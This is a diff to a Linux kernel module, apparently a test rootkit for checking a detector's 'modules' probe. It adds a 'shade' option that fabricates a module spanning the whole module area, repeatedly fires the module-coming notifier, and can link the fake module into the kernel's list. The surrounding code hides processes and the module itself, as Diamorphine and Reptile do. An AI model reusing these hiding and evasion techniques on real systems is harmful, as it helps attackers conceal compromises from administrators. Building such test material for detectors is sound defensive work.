@@ -24,6 +24,8 @@
  *   alias=NAME  gives this module another name, which may be another module's.  The probe "modules" has to have both.
  *   self=1      takes this module out of the list of modules: lsmod and rmmod do not know it.  Diamorphine, Reptile and adore-ng do it so.
  *               The probe "modules" has to report it.
+ *   shade=HOW   says, 100 times a second, that a module comes that has all of the modules' area, so that whatever is wrong there looks like one
+ *               that just comes: 1, one that there is not; 2, one that is put into the list for that.  "modules" has to report it all the same.
  *
  * 0 puts back what the parameter hid.  That has to be done before a hidden process ends, or the
  * kernel unlinks it a second time; and before rmmod, which does not know a module that hides.  A
@@ -39,16 +41,20 @@
 #include <linux/list.h>
 #include <linux/module.h>
 #include <linux/mutex.h>
+#include <linux/notifier.h>
 #include <linux/pid.h>
 #include <linux/rculist.h>
 #include <linux/rcupdate.h>
 #include <linux/sched/signal.h>
 #include <linux/sched/task.h>
 #include <linux/time64.h>
+#include <linux/version.h>
+#include <linux/workqueue.h>
 
 static rwlock_t *tasks_lock;            /* tasklist_lock */
 static struct mutex *modules_mutex;     /* module_mutex */
 static struct list_head *modules_list;  /* modules */
+static struct blocking_notifier_head *modules_notifier; /* module_notify_list */
 
 /* === Links of a task ==================================================== */
 
@@ -253,6 +259,57 @@ static const struct kernel_param_ops alias_ops = { .set = set_alias, .get = get_
 module_param_cb(alias, &alias_ops, NULL, 0600);
 MODULE_PARM_DESC(alias, "name to give this module");
 
+static int shade;
+static struct module made_up;
+
+static void say_it_comes(struct work_struct *work)
+{
+	blocking_notifier_call_chain(modules_notifier, MODULE_STATE_COMING, &made_up);
+	queue_delayed_work(system_highpri_wq, to_delayed_work(work), HZ / 100);
+}
+
+static DECLARE_DELAYED_WORK(shading, say_it_comes);
+
+static void make_up(void)
+{
+	made_up.state = MODULE_STATE_UNFORMED; /* so that nobody else looks at it */
+#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
+	made_up.mem[MOD_TEXT].base = (void *)MODULES_VADDR;
+	made_up.mem[MOD_DATA].size = MODULES_LEN; /* as code it would own all code there */
+#else
+	made_up.core_layout.base = (void *)MODULES_VADDR;
+	made_up.core_layout.size = MODULES_LEN;
+#endif
+}
+
+static int set_shade(const char *text, const struct kernel_param *param)
+{
+	int how, error = kstrtoint(text, 0, &how);
+
+	if (!error)
+		error = find_symbols();
+	if (error || !how == !shade)
+		return error;
+	make_up();
+	if (!how)
+		cancel_delayed_work_sync(&shading);
+	mutex_lock(modules_mutex);
+	if (how == 2)
+		list_add_rcu(&made_up.list, modules_list);
+	if (shade == 2)
+		list_del_rcu(&made_up.list);
+	mutex_unlock(modules_mutex);
+	shade = how;
+	if (how)
+		queue_delayed_work(system_highpri_wq, &shading, 0);
+	return 0;
+}
+
+static const struct kernel_param_ops shade_ops = { .set = set_shade, .get = param_get_int };
+
+module_param_cb(shade, &shade_ops, &shade, 0600);
+MODULE_PARM_DESC(shade, "1 or 2 says again and again that a module comes, 0 no more");
+
 /* === Start and end ====================================================== */
 
 /*
@@ -275,7 +332,8 @@ static int find_symbols(void)
 	tasks_lock = (void *)lookup("tasklist_lock");
 	modules_mutex = (void *)lookup("module_mutex");
 	modules_list = (void *)lookup("modules");
-	return tasks_lock && modules_mutex && modules_list ? 0 : -ENOENT;
+	modules_notifier = (void *)lookup("module_notify_list");
+	return tasks_lock && modules_mutex && modules_list && modules_notifier ? 0 : -ENOENT;
 }
 
 static int __init hide_start(void)
